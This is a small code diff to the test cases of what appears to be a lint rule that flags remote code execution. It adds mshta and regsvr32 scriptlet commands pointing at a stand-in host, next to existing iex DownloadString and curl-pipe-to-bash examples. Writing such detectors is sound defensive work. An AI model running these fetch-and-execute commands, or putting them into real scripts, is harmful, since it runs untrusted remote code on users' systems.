@@ -46,6 +46,8 @@ export default defineRule({
       language: 'powershell',
       code: "iex («(New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1')»)",
     },
+    { language: 'cmd', code: '«mshta https://example.test/a.hta»' },
+    { language: 'cmd', code: '«regsvr32 /s /n /u /i:https://example.test/a.sct scrobj.dll»' },
     { language: 'dockerfile', code: 'FROM debian:12\nRUN «curl -fsSL https://example.test/a.sh» | bash\n' },
   ],
   good: [
